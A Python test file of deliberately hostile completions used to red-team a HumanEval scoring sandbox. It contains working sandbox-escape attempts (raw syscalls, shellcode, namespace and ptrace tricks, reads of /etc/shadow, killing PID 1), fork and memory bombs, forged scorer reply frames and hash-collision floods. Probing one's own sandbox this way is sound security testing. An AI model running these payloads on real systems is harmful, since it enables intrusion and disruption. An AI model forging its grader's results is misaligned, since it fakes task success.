"""The red team's completions for the HumanEval sandbox (used by redteam_humaneval.py).

Reach and escape attacks (REACH) are written as the body of `_attack()`, which returns True only
if its exploit worked; `wrap` makes each a completion of HumanEval/2 that answers right only
then, so a pass is a hole. OUTCOME attacks are completions that try to make the scorer err
(misbehaving exceptions, values the encoder or decoder must refuse, bombs, forged frames);
any pass among them is a hole too. FLOOD: ints that are multiples of 2**61 - 1 (all hash
alike) in sets, dicts and lists near the 16 MB cap. Every completion here is hostile on purpose.
"""
import os
import sys
import textwrap

HOST = "/tmp/rt-host"
BOUND = ["/usr/local/rt-host", os.path.realpath(sys.base_prefix) + "/rt-host"]
PORT = 47231
RAW = """
import ctypes, os, socket, struct, mmap
libc = ctypes.CDLL(None, use_errno=True)
class Addr(ctypes.Structure):
    _fields_ = [('family', ctypes.c_ushort), ('path', ctypes.c_char * 108)]
def addr(path):
    return Addr(1, path.encode() if isinstance(path, str) else path)
def sc(*a):
    return libc.syscall(*[ctypes.c_long(x) if isinstance(x, int) else x for x in a])
S, D, ABSTRACT = %r, %r, b'\\0loraplace-rt'
FIFOS = %r
""" % (HOST + "/s", HOST + "/d", [HOST + "/f"] + [b + "/f" for b in BOUND])

REACH = {}
REACH["unix-plain"] = "s = socket.socket(socket.AF_UNIX); s.connect(S); s.sendall(b'PWNED'); return True"
REACH["unix-type-flags"] = ("s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM | socket.SOCK_NONBLOCK | socket.SOCK_CLOEXEC)\n"
                        "s.setblocking(True); s.connect(S); s.sendall(b'PWNED'); return True")
for name, fam in (("unix-family-bit32", 1 | (1 << 32)), ("unix-family-bit63", 1 - (1 << 63)),
                  ("unix-family-bit40", 1 | (1 << 40))):
    REACH[name] = (f"fd = sc(41, {fam}, 1, 0)\nif fd < 0: return False\n"
               "a = addr(S); libc.connect(fd, ctypes.byref(a), ctypes.sizeof(a)); os.write(fd, b'PWNED'); return True")
REACH["socketpair-sendto"] = ("sv = (ctypes.c_int * 2)()\nif sc(53, 1, 2, 0, sv) < 0: return False\n"
                          "a = addr(D); libc.sendto(sv[0], b'PWNED', 5, 0, ctypes.byref(a), ctypes.sizeof(a)); return True")
REACH["socketpair-highbits"] = ("sv = (ctypes.c_int * 2)()\nreturn sc(53, 1 | (1 << 32), 1, 0, sv) >= 0")
REACH["socketpair-scm-rights"] = ("a, b = socket.socketpair(socket.AF_UNIX)\n"
                              "a.sendmsg([b'x'], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, struct.pack('i', 0))]); return True")
REACH["unix-dgram-sendto"] = "s = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM); s.sendto(b'PWNED', D); return True"
REACH["abstract-unix"] = "s = socket.socket(socket.AF_UNIX); s.connect(ABSTRACT); s.sendall(b'PWNED'); return True"
REACH["io_uring_setup"] = "return sc(425, 8, ctypes.create_string_buffer(120)) >= 0"
REACH["io_uring-x32"] = "return sc(425 | 0x40000000, 8, ctypes.create_string_buffer(120)) >= 0"
REACH["x32-socket"] = ("fd = sc(41 | 0x40000000, 1, 1, 0)\nif fd < 0: return False\n"
                   "a = addr(S); sc(42 | 0x40000000, fd, ctypes.byref(a), ctypes.sizeof(a)); os.write(fd, b'PWNED'); return True")
REACH["int80-socket"] = ("code = bytes.fromhex('53b867010000bb01000000b90100000031d2cd805bc3')\n"
                     "m = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)\n"
                     "m.write(code)\nf = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(m)))\n"
                     "r, w = os.pipe()\npid = os.fork()\nif pid == 0:\n"
                     "    fd = f(); os.write(w, str(fd).encode()); os._exit(0)\n"
                     "os.close(w); os.waitpid(pid, 0); out = os.read(r, 20)\n"
                     "return bool(out) and int(out) >= 0")
REACH["fifo-writes"] = ("hit = False\nfor p in FIFOS:\n    try:\n        fd = os.open(p, os.O_WRONLY | os.O_NONBLOCK); os.write(fd, b'PWNED'); hit = True\n"
                    "    except OSError:\n        pass\nreturn hit")
REACH["vsock-bind"] = "s = socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM); s.bind((socket.VMADDR_CID_ANY, 5555)); s.listen(1); return True"
REACH["vsock-dgram-highbits"] = "return sc(41, 40 | (1 << 32), 2, 0) >= 0"
REACH["vsock-connect-host"] = "s = socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM); s.settimeout(1); s.connect((2, 22)); return True"
REACH["tcp-host-loopback"] = f"socket.create_connection(('127.0.0.1', {PORT}), timeout=1).sendall(b'PWNED'); return True"
REACH["netlink"] = "return sc(41, 16, 3, 0) >= 0"
REACH["packet"] = "return sc(41, 17, 3, 0) >= 0"
REACH["read-host-secret"] = (f"for p in ({HOST + '/secret'!r}, '/etc/passwd', '/etc/shadow', '/work/BRIEF.md', '/root/.bashrc'):\n"
                         "    try:\n        if open(p).read(): return True\n    except OSError:\n        pass\nreturn False")
REACH["proc-tricks"] = ("import glob\nhits = []\n"
                    f"for p in ('/proc/1/root{HOST}/secret', '/proc/self/root/../..{HOST}/secret', '/proc/1/cwd/secret',\n"
                    f"          '/proc/1/root/etc/passwd', '/proc/self/cwd/../../..{HOST}/secret'):\n"
                    "    try:\n        hits.append(open(p).read())\n    except OSError:\n        pass\n"
                    "for l in glob.glob('/proc/*/fd/*') + glob.glob('/proc/*/map_files/*'):\n"
                    "    try:\n        t = os.readlink(l)\n        if t.startswith('socket:') or t.startswith('/work') or t.startswith('/root/.cache'):\n"
                    "            hits.append(t)\n    except OSError:\n        pass\n"
                    "try:\n    open('/proc/sysrq-trigger', 'w'); hits.append('sysrq')\nexcept OSError:\n    pass\n"
                    "try:\n    open('/proc/sys/kernel/core_pattern', 'w'); hits.append('core')\nexcept OSError:\n    pass\n"
                    "return bool(hits)")
REACH["pidfd-steal"] = ("pfd = sc(434, 1, 0)\nif pfd < 0: return False\n"
                    "return any(sc(438, pfd, n, 0) >= 0 for n in range(3, 12)) or sc(424, pfd, 19, 0, 0) == 0")
REACH["process_vm_readv"] = ("buf = ctypes.create_string_buffer(8)\n"
                         "class IOV(ctypes.Structure):\n    _fields_ = [('b', ctypes.c_void_p), ('n', ctypes.c_size_t)]\n"
                         "l = IOV(ctypes.cast(buf, ctypes.c_void_p), 8); r = IOV(0x400000, 8)\n"
                         "return sc(310, 1, ctypes.byref(l), 1, ctypes.byref(r), 1, 0) >= 0")
REACH["clone3-newuser"] = ("args = (ctypes.c_uint64 * 11)(0x10000000 | 0x40000000, 0, 0, 0, 17, 0, 0, 0, 0, 0, 0)\n"
                       "r = sc(435, args, 88)\nif r == 0: os._exit(0)\nreturn r > 0")
REACH["unshare-ns"] = ("return any(sc(272, f) == 0 for f in (0x10000000, 0x40000000, 0x20000, 0x08000000, 0x02000000,\n"
                   "          0x10000000 | 0x40000000, 0x10000000 | (1 << 32)))")
REACH["clone-newuser-highbits"] = ("r = sc(56, 0x10000000 | 17 | (1 << 33), 0, 0, 0, 0)\nif r == 0: os._exit(0)\nreturn r > 0")
REACH["userfaultfd"] = "return sc(323, 0) >= 0 or os.path.exists('/dev/userfaultfd')"
REACH["memfd-exec"] = ("fd = sc(319, b'x', 0)\nif fd < 0: return False\nos.write(fd, open('/bin/true', 'rb').read())\n"
                   "pid = os.fork()\nif pid == 0:\n    try:\n        os.execve(fd, ['x'], {})\n    finally:\n        os._exit(9)\n"
                   "return False  # not a hole by itself: just runs")
REACH["personality"] = "sc(135, 0x0008 | 0x0400000 | 0x0040000); return False"
REACH["mount-chroot-pivot"] = ("os.makedirs('/tmp/work/m', exist_ok=True)\n"
                           "return libc.mount(b'none', b'/tmp/work/m', b'tmpfs', 0, None) == 0 or libc.chroot(b'/tmp') == 0 "
                           "or sc(155, b'/tmp', b'/tmp/work/m') == 0")
REACH["ptrace-pid1"] = "return sc(101, 16, 1, 0, 0) == 0"
REACH["devices"] = ("hit = False\nfor p in ('/dev/fuse', '/dev/mem', '/dev/kmsg', '/dev/sda', '/dev/vda', '/dev/tty', '/dev/console', '/dev/vsock', '/dev/vhost-vsock', '/dev/kvm'):\n"
                "    try:\n        os.open(p, os.O_RDWR); hit = True\n    except OSError:\n        pass\nreturn hit")
REACH["setns"] = "return sc(308, os.open('/proc/1/ns/net', os.O_RDONLY), 0) == 0"
REACH["keyctl-bpf-perf"] = ("return sc(250, 1, 0) >= 0 or sc(321, 5, ctypes.create_string_buffer(128), 128) >= 0 "
                        "or sc(298, ctypes.create_string_buffer(128), 0, -1, -1, 0) >= 0")
REACH["symlink-in-tmpfs"] = (f"os.symlink({HOST + '/secret'!r}, '/tmp/work/l'); os.symlink('/proc/1/root', '/tmp/work/r')\n"
                         "try:\n    return bool(open('/tmp/work/l').read())\nexcept OSError:\n    return False")
REACH["kill-everyone"] = "os.kill(-1, 9); return False"
REACH["kill-supervisor"] = "os.kill(1, 9); os.kill(1, 15); return False"
REACH["huge-stderr"] = ("import sys\nfor _ in range(40):\n    sys.stderr.write('e' * (1 << 20)); sys.stdout.write('o' * (1 << 20))\nreturn False")
REACH["daemon-child"] = ("if os.fork() == 0:\n    os.setsid()\n    import time\n    while True:\n        try:\n            os.write(1, b'x' * 65536)\n        except OSError:\n            time.sleep(0.01)\nreturn False")
REACH["cache-dir-write"] = ("hit = False\nfor p in ('/root/.cache/loraplace/humaneval/pwn', '/tmp/rt-cache/pwn'):\n"
                        "    try:\n        open(p, 'w').write('x'); hit = True\n    except OSError:\n        pass\nreturn hit")

def wrap(body: str) -> str:
    """HumanEval/2's completion: right (number % 1.0) only if `body`, the body of _attack(), worked."""
    inner = textwrap.indent(RAW + body, " " * 12)
    return ("    global _ok\n    try:\n        _ok\n    except NameError:\n        def _attack():\n" + inner +
            "\n        try:\n            _ok = bool(_attack())\n        except BaseException:\n            _ok = False\n"
            "    return number % 1.0 if _ok else -1.0\n")

# attacks on the outcome: the candidate itself (HumanEval/2 unless stated)
OUTCOME = {}
OUTCOME["exc-str-raises-eq-true"] = ("    class E(Exception):\n        def __str__(self): raise RuntimeError('no')\n"
                                  "        def __eq__(self, o): return True\n        __hash__ = object.__hash__\n    raise E()\n")
OUTCOME["exc-named-AssertionError-huge-str"] = ("    E = type('AssertionError', (Exception,), {'__str__': lambda s: 'x' * 10**7})\n    raise E()\n")
OUTCOME["exc-huge-type-name"] = "    raise type('A' * 200000, (Exception,), {})()\n"
OUTCOME["exc-huge-mro-names"] = ("    bases = tuple(type('B%d' % i + 'x' * 1000, (Exception,), {}) for i in range(200))\n"
                              "    raise type('E', bases, {})()\n")
OUTCOME["exc-errno-bigint"] = "    e = OSError('x'); e.errno = 2**200; raise e\n"
OUTCOME["exc-keyboardinterrupt"] = "    raise KeyboardInterrupt\n"
OUTCOME["exc-systemexit0"] = "    raise SystemExit(0)\n"
OUTCOME["exc-generatorexit"] = "    raise GeneratorExit\n"
OUTCOME["return-exception"] = "    return ValueError('x')\n"
OUTCOME["return-bool-subclass"] = "    class B(float):\n        def __eq__(s, o): return True\n        __hash__ = float.__hash__\n    return B(-1.0)\n"
OUTCOME["return-too-deep"] = "    v = 0.5\n    for _ in range(70):\n        v = [v]\n    return v\n"
OUTCOME["return-too-many"] = "    return [0.5] * 1_000_001\n"
OUTCOME["return-colliding-set-real"] = "    return {k * (2**61 - 1) for k in range(1, 100_001)}\n"
OUTCOME["return-huge-int"] = "    return 1 << (60 * 10**6)\n"
OUTCOME["sleep-in-call"] = "    import time\n    time.sleep(1.2)\n    return number % 1.0\n"
OUTCOME["sleep-then-spin"] = "    import time\n    time.sleep(2.8)\n    while True:\n        pass\n"
OUTCOME["close-pipes-spin"] = "    import os\n    for fd in range(3, 20):\n        try:\n            os.close(fd)\n        except OSError:\n            pass\n    while True:\n        pass\n"
OUTCOME["memory-bomb"] = "    a = []\n    while True:\n        a.append(bytearray(1 << 24))\n"
OUTCOME["fork-bomb"] = "    import os\n    while True:\n        try:\n            os.fork()\n        except OSError:\n            pass\n"
OUTCOME["thread-bomb"] = ("    import threading, time\n    while True:\n        try:\n            threading.Thread(target=time.sleep, args=(60,)).start()\n"
                       "        except BaseException:\n            pass\n")
OUTCOME["forged-huge-length"] = ("    import os, time\n    for fd in map(int, os.listdir('/proc/self/fd')):\n        try:\n"
                              "            os.write(fd, (2**31).to_bytes(4, 'big') + b'x' * 100) if fd > 2 else None\n"
                              "        except OSError:\n            pass\n    time.sleep(60)\n")
OUTCOME["xcpu-self"] = "    import os, signal\n    os.kill(os.getpid(), signal.SIGXCPU)\n"

def forged(body_text: str) -> str:
    """A completion writing a reply frame (body_text is the JSON body) on every fd > 2, then sleeping."""
    return ("    import os, time\n"
            f"    body = {body_text}\n"
            "    frame = len(body).to_bytes(4, 'big') + body\n"
            "    for fd in map(int, os.listdir('/proc/self/fd')):\n"
            "        try:\n            os.write(fd, frame) if fd > 2 else None\n        except OSError:\n            pass\n"
            "    time.sleep(60)\n")

FORGED = {  # reply frames the completion writes itself (JSON body of ["value", text])
    "forged-17MB": "b'[\"value\",\"' + b'1' * (17 << 20) + b'\"]'",
    "forged-depth-65": "b'[\"value\",\"' + b'[' * 65 + b'0.5' + b']' * 65 + b'\"]'",
    "forged-1M-nodes": "b'[\"value\",\"[' + b','.join([b'0'] * 1_000_001) + b']\"]'",
    "forged-15MB-int": "b'[\"value\",\"{\\\\\"int\\\\\":\\\\\"' + b'f' * (15 << 20) + b'\\\\\"}\"]'",
    "forged-500k-key-object": "b'[\"value\",\"{' + b','.join(b'\\\\\"k%d\\\\\":0' % i for i in range(500_000)) + b'}\"]'",
    "forged-100k-nan-set": "b'[\"value\",\"{\\\\\"set\\\\\":[' + b','.join([b'NaN'] * 100_000) + b']}\"]'",
    "forged-zero-hash-mix": "b'[\"value\",\"{\\\\\"set\\\\\":[' + b','.join([b'0.0', b'-0.0'] + [b'{\\\\\"int\\\\\":\\\\\"%x\\\\\"}' % (k * (2**61 - 1)) for k in range(1, 100_000)]) + b']}\"]'",
    "forged-60k-digit-float": "b'[\"value\",\"0.' + b'1' * 60000 + b'\"]'",
}


OUTCOME.update({name: forged(body) for name, body in FORGED.items()})

P = 2**61 - 1  # every multiple of it hashes alike (to 0)


def flooded(member: str, wrap_: str, n: int) -> str:
    """A forged reply: a plain-data set / dict / ... of n - 1 members sharing one hash."""
    return f"""    import json, os, time
    members = ','.join({member!r} % (k * {P}) for k in range(1, {n}))
    body = json.dumps(['value', {wrap_!r} % members]).encode()
    frame = len(body).to_bytes(4, 'big') + body
    for fd in map(int, os.listdir('/proc/self/fd')):
        try:
            os.write(fd, frame) if fd > 2 else None
        except OSError:
            pass
    time.sleep(60)
"""


N = 420_000  # a member is ~38 bytes escaped: ~16 MB, just under the cap
FLOOD = {  # HumanEval/111 (histogram: returns a dict)
    "forged-set": flooded('{"int":"%x"}', '{"set":[%s]}', N),
    "forged-frozenset": flooded('{"int":"%x"}', '{"frozenset":[%s]}', N),
    "forged-dict": flooded('[{"int":"%x"},0]', '{"dict":[%s]}', N // 2),
    "forged-set-of-tuples": flooded('{"tuple":[{"int":"%x"}]}', '{"set":[%s]}', N // 2),
    "forged-dict-over-cap": flooded('[{"int":"%x"},0]', '{"dict":[%s]}', N),
    "forged-set-100k": flooded('{"int":"%x"}', '{"set":[%s]}', 100_001),
    "real-list-400k": f"    return [k * {P} for k in range(1, 400_000)]\n",
    "real-list-neg-400k": f"    return [-k * {P} for k in range(1, 400_000)]\n",
    "real-set-100k": f"    return {{k * {P} for k in range(1, 100_001)}}\n",
    "real-dict-100k": f"    return {{k * {P}: 1 for k in range(1, 100_001)}}\n",
    "real-list-in-dict": f"    return {{'a': [k * {P} for k in range(1, 400_000)]}}\n",
    "real-tuple-list": f"    return [(k * {P},) for k in range(1, 300_000)]\n",
}
HONEST = ("HumanEval/0", "HumanEval/2", "HumanEval/12", "HumanEval/23", "HumanEval/53", "HumanEval/101",
          "HumanEval/111", "HumanEval/120", "HumanEval/163")


def attack_rows(problems: dict) -> list[tuple[str, str, dict]]:
    """(kind, name, row) of the attack file: REACH and OUTCOME, then honest canonical solutions."""
    rows = [("attack", n, {"task_id": "HumanEval/2", "completion": wrap(b)}) for n, b in REACH.items()]
    rows += [("attack", n, {"task_id": "HumanEval/2", "completion": c}) for n, c in OUTCOME.items()]
    return rows + [("honest", t, {"task_id": t, "completion": problems[t]["canonical_solution"]})
                   for t in HONEST]


def flood_rows(problems: dict) -> list[tuple[str, str, dict]]:
    """(kind, name, row) of the hash-collision file, honest solutions between the floods."""
    floods = [("attack", n, {"task_id": "HumanEval/111", "completion": c}) for n, c in FLOOD.items()]
    honest = [("honest", t, {"task_id": t, "completion": problems[t]["canonical_solution"]})
              for t in HONEST[:6]]
    out = []
    for i, row in enumerate(floods):
        out.append(row)
        if i % 2 == 1 and honest:
            out.append(honest.pop())
    return out + honest


# 50 %-flaky programs: each decides once per sandbox, from a real source of randomness, whether
# to answer HumanEval/2 right; `k` makes each distinct. Scored twice into one cache, none may
# ever come back as a cached pass (it may pass, run now).
COINS = ("__import__('random').random() < 0.5", "__import__('os').urandom(1)[0] < 128",
         "__import__('secrets').randbits(1) == 1", "__import__('time').time_ns() // 1000 % 2 == 0")
RANDOM = ("    global _coin\n    try:\n        _coin\n    except NameError:\n"
          "        _coin = ({coin}) + 0 * {k}\n    return number % 1.0 if _coin else -1.0\n")


def flaky_rows(n: int = 24) -> list[tuple[str, str, dict]]:
    return [("flaky", f"random-{k}", {"task_id": "HumanEval/2",
                                      "completion": RANDOM.format(coin=COINS[k % len(COINS)], k=k)})
            for k in range(n)]
